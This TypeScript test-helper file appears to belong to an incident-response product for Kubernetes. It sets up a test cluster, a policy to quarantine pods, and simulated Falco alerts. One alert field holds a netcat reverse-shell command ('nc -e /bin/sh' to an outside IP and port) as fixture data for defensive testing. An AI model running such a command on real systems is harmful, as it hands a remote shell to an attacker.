import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Action } from '@tocsin/domain';
import { makeDeployment, type KubeAdmin } from '@tocsin/testing';
import { PATIENCE_MS, startProduct, type Product } from './stack.ts';

/** A reverse shell proposes to quarantine its pod; nothing else is answered. */
const POLICIES = `apiVersion: tocsin.dev/v1
kind: ResponsePolicy
metadata: { name: contain-reverse-shells }
spec:
  match: { incidents: incident.rule.name == "reverse-shell" }
  mode: propose
  lease: 4h
  steps: [{ action: quarantine, with: { strategy: portable } }]
`;

export interface Scene extends Product {
  namespace: string;
}

/** The product with a real cluster behind it, whose Deployments `storefront` and `billing` have three pods each. */
export async function startScene(admin: KubeAdmin, more: { demo?: boolean; namespace?: string; policies?: string } = {}): Promise<Scene> {
  const { namespace = await admin.namespace() } = more;
  for (const name of ['storefront', 'billing']) await makeDeployment(admin, namespace, name, 3);
  const directory = await mkdtemp(join(tmpdir(), 'tocsin-console-'));
  const kubeconfig = join(directory, 'kubeconfig');
  await writeFile(kubeconfig, admin.kubeconfig());
  try {
    const config = { responder: { clusters: [{ name: 'default', kubeconfig }], reconcileEvery: '1s' } };
    const product = await startProduct({ directory, config, policies: POLICIES + (more.policies ?? ''), demo: more.demo === true });
    return { ...product, namespace };
  } catch (error) {
    await rm(directory, { recursive: true, force: true });
    throw error;
  }
}

/** A pod of the scene opens a reverse shell, as Falco reports it. */
export async function reverseShell(url: string, namespace: string, pod: string): Promise<void> {
  await report(url, {
    rule: 'Netcat Remote Code Execution in Container',
    priority: 'Critical',
    output: 'Netcat runs inside a container that allows remote code execution',
    time: new Date().toISOString(),
    source: 'syscall',
    tags: ['container', 'mitre_execution', 'T1059'],
    output_fields: {
      'k8s.ns.name': namespace,
      'k8s.pod.name': pod,
      'container.name': 'storefront',
      'proc.name': 'nc',
      'proc.cmdline': 'nc -e /bin/sh 203.0.113.54 4444',
    },
  });
}

export async function report(url: string, event: object): Promise<void> {
  const response = await fetch(`${url}/v1/sources/falco`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(event),
  });
  if (!response.ok) throw new Error(`The event was answered ${response.status}: ${await response.text()}`);
}

/** The first action in that state. Waits for it. */
export async function actionIn(url: string, state: Action['state']): Promise<Action> {
  for (const end = Date.now() + PATIENCE_MS; Date.now() < end;) {
    const { items } = (await (await fetch(`${url}/v1/actions?state=${state}`)).json()) as { items: Action[] };
    if (items[0] !== undefined) return items[0];
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  const { items } = (await (await fetch(`${url}/v1/actions`)).json()) as { items: Action[] };
  throw new Error(
    `No action came into the state ${state}; there are: ${JSON.stringify(items.map(({ type, state: at, reason }) => [type, at, reason]))}`,
  );
}
